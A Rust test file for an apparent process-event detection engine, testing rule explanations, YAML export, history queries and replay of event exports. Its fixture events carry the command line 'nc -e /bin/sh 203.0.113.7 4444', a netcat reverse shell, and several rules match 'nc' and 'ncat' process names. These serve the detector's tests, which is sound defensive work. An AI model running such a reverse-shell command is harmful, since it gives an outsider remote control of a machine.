//! The tools around rules: explanations agree with the matcher, exports are the same rules again, replays are the same alerts.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use daemoneye_engine::detect::{LoadedRule, Part, RuleSet, RuleTest, explain, history_sql, rules};
use daemoneye_engine::ingest::batch_from_json;
use daemoneye_engine::replay::{Replay, events_of, read};
use daemoneye_engine::sql::{check, evaluate};
use daemoneye_engine::store::StoreOptions;
use daemoneye_lib::model::{Completeness, RuleKind};
use datafusion::arrow::array::AsArray as _;
use datafusion::arrow::datatypes::Int64Type;
use serde_json::{Map, Value, json};

fn rule(sql: &str) -> LoadedRule {
    let yaml = format!(
        "id: 3d9f2c1e-7a54-4b0e-9a51-0c8c5f3f7a01\nname: r\ndescription: d\nauthor: a\nseverity: low\ncategory: c\nsql: {}\n",
        Value::from(sql)
    );
    rules::parse(Path::new("local/r.yaml"), &yaml).unwrap()
}

fn event(json: &Value) -> Map<String, Value> {
    json.as_object().unwrap().clone()
}

fn pack() -> Vec<LoadedRule> {
    rules::load_dirs(&[PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../rules")]).rules
}

/// The built-in rules that one event decides.
fn pack_of_streams() -> impl Iterator<Item = LoadedRule> {
    pack().into_iter().filter(|rule| rule.rule.kind == RuleKind::Stream)
}

#[test]
fn an_explanation_shows_each_predicate_with_its_value_and_outcome() {
    let rule = rule(
        "SELECT pid FROM process_events AS e WHERE event_type = 'start' AND (e.name IN ('nc', 'ncat') OR NOT (uid > 5)) \
         AND parent_name LIKE 'ngin%'",
    );
    let row = event(&json!({ "event_type": "start", "name": "ncat", "uid": 7 }));
    let explained = explain(&rule, &batch_from_json(&[row]).unwrap(), 0).unwrap();
    assert!(explained.matches == Some(false) && explained.unseen.is_none());
    assert_eq!(explained.missing_columns, ["pid", "parent_name"]);
    let condition = explained.condition.unwrap();
    assert_eq!((condition.kind, condition.outcome, condition.parts.len()), ("and", None, 3));
    let [start, either, parent] = condition.parts.as_slice() else { panic!("{condition:?}") };
    assert_eq!((start.sql.as_str(), start.outcome), ("event_type = 'start'", Some(true)));
    assert_eq!(start.values, event(&json!({ "event_type": "start" })));
    assert_eq!((either.kind, either.outcome), ("or", Some(true)));
    assert_eq!((either.parts[0].outcome, either.parts[1].outcome), (Some(true), Some(false)));
    let not = &either.parts[1];
    assert_eq!((not.kind, not.parts[0].outcome, &not.parts[0].values["uid"]), ("not", Some(true), &json!(7)));
    assert_eq!((parent.outcome, &parent.values["parent_name"]), (None, &Value::Null));
}

#[test]
fn an_explanation_of_a_window_rule_shows_what_each_of_its_tables_says() {
    let rule = rule(
        "SELECT a.pid FROM process_events a LEFT JOIN process_events b ON b.ppid = a.pid AND b.name = 'done' AND b.time BETWEEN \
         a.time AND a.time + INTERVAL '30 seconds' WHERE a.name IN ('begin', 'start') AND a.cwd = '/' AND b.pid IS NULL",
    );
    let row = event(&json!({ "time": 1_769_860_800_000_000_i64, "name": "begin", "cwd": "/", "pid": 7 }));
    let explained = explain(&rule, &batch_from_json(&[row]).unwrap(), 0).unwrap();
    assert_eq!((explained.matches, &explained.condition), (None, &None));
    assert!(explained.missing_columns.contains(&"ppid"));
    let [begin, done] = explained.scans.as_slice() else { panic!("{explained:?}") };
    assert_eq!((begin.table.as_str(), begin.may_be_absent, begin.takes, begin.waits_s), ("a", false, true, 35));
    assert_eq!(begin.conditions.len(), 2);
    assert_eq!(begin.conditions[1].values, event(&json!({ "cwd": "/" })));
    assert_eq!((done.table.as_str(), done.may_be_absent, done.takes), ("b", true, false));
    assert_eq!((done.conditions[0].outcome, &done.conditions[0].values["name"]), (Some(false), &json!("begin")));
}

#[test]
fn an_explanation_says_that_a_fork_is_not_seen() {
    let row = event(&json!({ "event_type": "start", "start_kind": "fork", "name": "x" }));
    let events = batch_from_json(&[row]).unwrap();
    let blind = explain(&rule("SELECT pid FROM process_events WHERE name = 'x'"), &events, 0).unwrap();
    assert!(blind.matches == Some(false) && blind.unseen.is_some() && blind.condition.unwrap().outcome == Some(true));
    let sql = "SELECT pid FROM process_events WHERE name = 'x' AND start_kind = 'fork'";
    let seeing = explain(&rule(sql), &events, 0).unwrap();
    assert!(seeing.matches == Some(true) && seeing.unseen.is_none());
}

/// What a part says and what its parts say together must be the same.
fn consistent(part: &Part) {
    let outcomes: Vec<Option<bool>> = part.parts.iter().map(|inner| inner.outcome).collect();
    let deciding = |decides: bool| {
        if outcomes.contains(&Some(decides)) {
            Some(decides)
        } else if outcomes.contains(&None) {
            None
        } else {
            Some(!decides)
        }
    };
    let expected = match part.kind {
        "and" => deciding(false),
        "or" => deciding(true),
        "not" => outcomes[0].map(|outcome| !outcome),
        _ => part.outcome,
    };
    assert_eq!(part.outcome, expected, "{}", part.sql);
    part.parts.iter().for_each(consistent);
}

#[test]
fn every_built_in_rule_is_explained_as_the_matcher_decides_it() {
    for rule in pack_of_streams() {
        // One of each kind: compiling every part of every rule for all of them takes a minute.
        let first = |expect| rule.tests.iter().find(|test| test.expect == expect).unwrap();
        for test in [first(true), first(false)] {
            let events = batch_from_json(std::slice::from_ref(&test.event)).unwrap();
            let explained = explain(&rule, &events, 0).unwrap();
            assert_eq!(explained.matches, Some(test.expect), "{}: {}", rule.rule.name, test.name);
            let condition = explained.condition.unwrap();
            // Of a fork that the rule does not see, the condition may hold all the same.
            let holds = condition.outcome == Some(true) && explained.unseen.is_none();
            assert_eq!(holds, test.expect, "{}: {}", rule.rule.name, test.name);
            consistent(&condition);
        }
    }
}

#[test]
fn an_exported_rule_is_the_same_rule() {
    for before in pack() {
        let yaml = rules::to_yaml(&before);
        let after = rules::parse(&before.path, &yaml).unwrap_or_else(|problems| panic!("{problems:?}\n{yaml}"));
        let hash = after.rule.hash.clone();
        assert_eq!(daemoneye_lib::model::DetectionRule { hash, ..(*before.rule).clone() }, *after.rule, "{yaml}");
        assert!(rules::run_tests(&after).is_ok(), "{yaml}");
        assert_eq!(before.tests.len(), after.tests.len());
        // What was exported once is exported alike for ever.
        assert_eq!(yaml, rules::to_yaml(&after));
    }
}

#[test]
fn text_that_yaml_would_read_otherwise_survives_an_export() {
    let mut odd = rule("SELECT pid FROM process_events\n  WHERE name = ' : # '' \\ \u{e9}' -- end");
    let words = Arc::make_mut(&mut odd.rule);
    words.name = "yes".to_owned();
    words.description = "a: b # c\n\u{1}\u{85}".to_owned();
    words.false_positives = vec!["- [x]".to_owned(), "null".to_owned(), "1".to_owned()];
    let again = rules::parse(&odd.path, &rules::to_yaml(&odd)).unwrap();
    assert_eq!((&again.rule.name, &again.rule.sql), (&odd.rule.name, &odd.rule.sql));
    assert_eq!(again.rule.false_positives, odd.rule.false_positives);
}

#[test]
fn history_gives_every_built_in_rule_the_events_that_it_matches_and_no_others() {
    for rule in pack_of_streams() {
        let sql = history_sql(&[&rule]);
        let place = sql.split_once("WHERE").unwrap().1;
        assert!(place.contains(" AND ("), "{} reads all of history: {sql}", rule.rule.name);
        let (from, to) = ("TIMESTAMP '2026-01-31T12:00:00Z'", "TIMESTAMP '2026-01-31T13:00:00Z'");
        let checked = check(&sql.replace("$1", from).replace("$2", to)).unwrap();
        let timed = |(at, test): (usize, &RuleTest)| {
            let mut event = test.event.clone();
            event.insert("time".into(), (1_769_860_800_000_000 + at as i64).into());
            event.insert("seq".into(), at.into());
            event
        };
        let events: Vec<_> = rule.tests.iter().enumerate().map(timed).collect();
        let rows = evaluate(&checked, "process_events", vec![batch_from_json(&events).unwrap()]).unwrap();
        let found: Vec<usize> = rows
            .iter()
            .flat_map(|batch| batch.column_by_name("seq").unwrap().as_primitive::<Int64Type>().values().to_vec())
            .map(|seq| usize::try_from(seq).unwrap())
            .collect();
        let expected: Vec<usize> = (0..rule.tests.len()).filter(|at| rule.tests[*at].expect).collect();
        assert_eq!(found, expected, "{}: {sql}", rule.rule.name);
    }
}

/// Events in the shape of an export: 200 processes of which every third matches, some of them repeated.
fn history() -> Vec<Map<String, Value>> {
    (0..200_i64)
        .map(|n| {
            event(&json!({
                "time": 1_769_860_800_000_000 + n * 1_000_000,
                "event_type": "start",
                "start_kind": "exec",
                "entity_id": format!("{:032x}", n / 2),
                "pid": n,
                "name": if n % 3 == 0 { "nc" } else { "sh" },
                "command_line": "nc -e /bin/sh 203.0.113.7 4444",
                "arg_lengths": "0x0202",
                "collector": "procmond",
                "epoch": 1,
                "seq": n + 1,
            }))
        })
        .collect()
}

fn replayed(rules: Vec<LoadedRule>, feed: impl FnOnce(&mut Replay)) -> String {
    let options = StoreOptions { audit_entries: 0, ..StoreOptions::new("nowhere") };
    let (mut replay, refused) = Replay::new(rules, options).unwrap();
    assert!(refused.is_empty());
    feed(&mut replay);
    let alerts = replay.alerts().unwrap();
    assert!(!alerts.is_empty() && replay.matches() >= alerts.len() as u64);
    alerts.iter().map(|alert| serde_json::to_string(alert).unwrap() + "\n").collect()
}

#[test]
fn a_replay_gives_the_same_bytes_whatever_the_pieces_and_the_format() {
    let dir = tempfile::tempdir().unwrap();
    let events = history();
    let file = dir.path().join("events.jsonl");
    let lines: String = events.iter().map(|event| Value::Object(event.clone()).to_string() + "\n").collect();
    std::fs::write(&file, lines).unwrap();
    let from_file = || {
        replayed(with_windows(), |replay| {
            let troubles = read(&file, &mut |events| replay.take(&events).map(drop)).unwrap();
            assert!(troubles.is_empty());
        })
    };
    let once = from_file();
    assert_eq!(once, from_file());
    for piece in [1, 7, 200] {
        let pieces = replayed(with_windows(), |replay| {
            for rows in events.chunks(piece) {
                replay.take(&events_of(batch_from_json(rows).unwrap())).unwrap();
            }
        });
        assert_eq!(once, pieces, "in pieces of {piece}");
    }
    assert!(once.contains(COUNTED) && once.contains(FOLLOWED), "window rules are among them");
}

const COUNTED: &str = "3d9f2c1e-7a54-4b0e-9a51-0c8c5f3f7a02";
const FOLLOWED: &str = "3d9f2c1e-7a54-4b0e-9a51-0c8c5f3f7a03";

/// The built-in pack, a rule that counts and one that joins.
fn with_windows() -> Vec<LoadedRule> {
    let more = [
        (
            COUNTED,
            "SELECT name, count(*) AS n FROM process_events WHERE time > now() - INTERVAL '5 seconds' GROUP BY name \
                   HAVING count(*) >= 3",
        ),
        (
            FOLLOWED,
            "SELECT b.pid AS pid FROM process_events a JOIN process_events b ON b.time BETWEEN a.time AND a.time + \
                    INTERVAL '2 seconds' WHERE a.name = 'nc' AND b.name = 'sh'",
        ),
    ];
    let window = more.map(|(id, sql)| {
        let yaml = format!("id: {id}\nname: window {id}\nseverity: low\nsql: {}\n", Value::from(sql));
        rules::parse(Path::new("local/window.yaml"), &yaml).unwrap()
    });
    pack().into_iter().chain(window).collect()
}

#[test]
fn a_replay_of_many_alerts_hands_on_those_that_are_over_and_holds_few() {
    let events: Vec<_> = (0..12_000_u64)
        .map(|n| {
            // Some processes are seen twice, within the time of deduplication.
            let process = if n % 20 == 0 { n.saturating_sub(1) } else { n };
            event(&json!({"time": 1_769_860_800_000_000_u64 + n * 100_000, "entity_id": format!("{process:032x}"),
                "pid": n, "collector": "procmond", "epoch": 1, "seq": n + 1}))
        })
        .collect();
    let no_limit = StoreOptions { rate_per_rule: u32::MAX, rate_total: u32::MAX, ..StoreOptions::new("nowhere") };
    let options = StoreOptions { audit_entries: 0, ..no_limit };
    let (mut replay, _) = Replay::new(vec![rule("SELECT pid FROM process_events")], options).unwrap();
    let mut alerts = Vec::new();
    for some in events.chunks(3_000) {
        assert_eq!(replay.take(&events_of(batch_from_json(some).unwrap())).unwrap().len(), some.len());
        alerts.extend(replay.settled().unwrap());
    }
    assert!(alerts.len() > 5_000, "{} were handed on before the end", alerts.len());
    replay.finish().unwrap();
    alerts.extend(replay.alerts().unwrap());
    assert_eq!((alerts.len(), replay.shortfalls()), (12_000 - 599, Vec::new()));
    assert_eq!(alerts.iter().map(|alert| alert.count).sum::<u64>(), 12_000);
    assert!(alerts.windows(2).all(|two| (two[0].time_us, two[0].id) < (two[1].time_us, two[1].id)));
}

#[test]
fn the_end_of_a_replay_decides_what_an_absence_still_waits_for() {
    let absence = rule(
        "SELECT a.pid AS pid FROM process_events a LEFT JOIN process_events b ON b.ppid = a.pid \
         AND b.time BETWEEN a.time AND a.time + INTERVAL '30 seconds' WHERE a.name = 'nc' AND b.pid IS NULL",
    );
    let events: Vec<_> = history().into_iter().take(1).collect();
    let alerts = replayed(vec![absence], |replay| {
        let early = replay.take(&events_of(batch_from_json(&events).unwrap())).unwrap();
        assert!(early.is_empty(), "its window is not over");
        replay.finish().unwrap();
    });
    assert_eq!(alerts.lines().count(), 1);
}

#[test]
fn an_export_in_disorder_is_replayed_in_the_order_of_time() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("events.jsonl");
    let mut events = history();
    let write = |events: &[Map<String, Value>]| {
        let lines: String = events.iter().map(|event| Value::Object(event.clone()).to_string() + "\n").collect();
        std::fs::write(&file, lines).unwrap();
        let mut seen = Vec::new();
        read(&file, &mut |events| {
            let seqs = events.batch.column_by_name("seq").unwrap().as_primitive::<Int64Type>().values().to_vec();
            seen.extend(seqs);
            Ok(())
        })
        .unwrap();
        seen
    };
    let in_order = write(&events);
    events.reverse();
    assert_eq!(write(&events), in_order);
    assert_eq!(in_order, (1..=200).collect::<Vec<_>>());
}

#[test]
fn rows_without_a_place_in_a_stream_are_refused_with_what_is_missing() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("events.jsonl");
    let read = |text: &str| {
        std::fs::write(&file, text).unwrap();
        read(&file, &mut |_| Ok(())).unwrap_err().to_string()
    };
    let row = "{\"time\":\"2026-01-31T12:00:00Z\",\"collector\":\"p\",\"epoch\":1,\"seq\":1}\n";
    assert!(read("{\"time\":\"2026-01-31T12:00:00Z\",\"name\":\"x\"}\n").contains("no column collector"));
    assert!(read(&format!("{row}\n{{broken\n")).contains("line 3"), "blank lines count");
    assert!(read(&row.replace("seq\":1", "seq\":1,\"nmae\":2")).contains("nmae"));
    let nothing = dir.path().join("empty");
    std::fs::create_dir(&nothing).unwrap();
    let error = daemoneye_engine::replay::read(&nothing, &mut |_| Ok(())).unwrap_err();
    assert!(error.to_string().contains("no log of a collector"), "{error}");
}

#[test]
fn an_export_may_begin_with_a_byte_order_mark_and_no_other_line() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("events.jsonl");
    let rows = |text: &str| {
        std::fs::write(&file, text).unwrap();
        let mut rows = 0;
        let done = read(&file, &mut |events| {
            rows += events.batch.num_rows();
            Ok(())
        });
        done.map(|_| rows).map_err(|error| error.to_string())
    };
    let row = "{\"time\":\"2026-01-31T12:00:00Z\",\"collector\":\"p\",\"epoch\":1,\"seq\":1}\r\n";
    assert_eq!(rows(&format!("\u{feff}{row}{row}")), Ok(2));
    assert_eq!(rows(&format!("\u{feff}\r\n{row}")), Ok(1));
    assert!(rows(&format!("{row}\u{feff}{row}")).unwrap_err().contains("line 2"));
}

#[test]
fn a_rule_finds_in_a_replay_what_it_finds_live() {
    let rows = history();
    let events = events_of(batch_from_json(&rows).unwrap());
    let (set, _) = RuleSet::compile(pack());
    let live = set.evaluate(&events, &Completeness::complete());
    let (mut replay, _) = Replay::new(pack(), StoreOptions::new("nowhere")).unwrap();
    let again = replay.take(&events).unwrap();
    let of = |found: &daemoneye_engine::store::RuleMatch| (found.rule.id, found.row, found.output().into_owned());
    assert_eq!(live.iter().map(of).collect::<Vec<_>>(), again.iter().map(of).collect::<Vec<_>>());
}

#[cfg(unix)]
#[test]
fn a_pipe_which_could_be_read_but_once_is_no_replay() {
    let dir = tempfile::tempdir().unwrap();
    let pipe = dir.path().join("events");
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let error = read(&pipe, &mut |_| Ok(())).unwrap_err().to_string();
    assert!(error.contains("no regular file") && error.contains(&*pipe.to_string_lossy()), "{error}");
}
